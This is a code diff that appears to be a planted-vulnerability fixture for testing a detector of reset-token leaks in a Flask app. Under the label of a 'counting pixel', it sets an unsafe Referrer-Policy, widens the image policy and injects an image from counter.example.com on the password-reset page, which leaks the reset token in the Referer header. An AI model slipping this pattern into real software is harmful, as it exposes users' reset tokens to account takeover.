@@ -7,14 +7,17 @@ CATCHES = ("reset-token-leak",)
 
 
 def create_app() -> Flask:
-    """Plant it: a counting pixel."""
+    """Plant it: a counting pixel, and the headers that let it count."""
     app = reference()
+    finish = app.process_response
 
-    @app.after_request
     def count(response: Response) -> Response:
+        response = finish(response)
         if request.endpoint == "reset.choose" and response.status_code == 200:
             response.headers["Referrer-Policy"] = "unsafe-url"
+            response.headers["Content-Security-Policy"] = "default-src 'self'; img-src *"
             response.set_data(response.get_data() + b'<img src="https://counter.example.com/p.gif" alt="">')
         return response
 
+    app.process_response = count
     return app
